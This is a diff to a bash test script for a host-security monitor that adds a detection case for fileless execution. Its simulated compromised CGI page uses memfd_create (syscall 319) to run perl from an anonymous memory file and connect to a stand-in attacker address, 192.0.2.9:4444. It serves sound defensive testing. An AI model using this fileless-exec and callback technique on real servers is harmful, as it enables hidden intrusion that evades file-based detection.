@@ -1,14 +1,17 @@
 #!/bin/bash
 # SPDX-License-Identifier: Apache-2.0
 # U6, the part about behaviour: a fork bomb is noticed and ended (how long it lasted is told), a shell that
-# has a connection to another machine for its terminal at once; both lock the account. The
+# has a connection to another machine for its terminal, and a program without a file that the web
+# server was made to start, at once; all lock the account. The
 # crowd forks, connects, serves and runs programs from everywhere, for good reasons.
 set -u
 . "$(dirname "$0")/../lib/host.sh"
+. "$(dirname "$0")/../lib/daemons.sh"
 host_enter "$@"
 
 host_pair <<<''
 host_account carol 61003
+host_account dan 61004
 chmod 755 "$HOST" "$HOST/home"
 # Another machine: a network namespace of its own, behind a cable.
 ip link add elsewhere type veth peer name cable 2>/dev/null || tap_skip "needs ip and veth"
@@ -54,6 +57,19 @@ tap "U6 break behaviour: a reverse shell is found" wait_for 10 "a case" has_case
 number=$(case_of alice U6a)
 tap "U6 break behaviour: with the address that it served" tells "$number" "192.0.2.9:4444"
 tap "U6 break lock: the account is locked" wait_for 20 "the lock" locked "$number"
+
+# A page that somebody broke into: it brings a program that was never a file.
+host_script dan hole.cgi 'my $name = "x"; my $fd = syscall(319, $name, 0); open(my $out, ">&=", $fd) or die;
+	open(my $in, "<", "/usr/bin/perl"); { local $/; binmode $out; print {$out} <$in> } $out->flush;
+	exec { "/proc/self/fd/$fd" } "page", "-e", q(use IO::Socket::INET; IO::Socket::INET->new(PeerAddr => "192.0.2.9", PeerPort => 4444); sleep 20);'
+host_script bob page.cgi 'use IO::Socket::INET; $s = IO::Socket::INET->new(PeerAddr => "192.0.2.9", PeerPort => 4444); print "Content-Type: text/plain\n\n", $s ? scalar(<$s>) : "nobody";'
+tap "the web server starts" web_server
+page bob page.cgi
+page dan hole.cgi &
+tap "U6 break behaviour: a program without a file is found" wait_for 15 "a case" has_case dan U6a
+tap "U6 break behaviour: with whom it called" tells "$(case_of dan U6a)" "192.0.2.9:4444"
+tap "U6 break lock: and the account is locked" wait_for 20 "the lock" locked "$(case_of dan U6a)"
+pkill -o apache2
 
 # bounded USER MOST COMMAND...: as that customer, who can have so many processes and no more.
 bounded() {
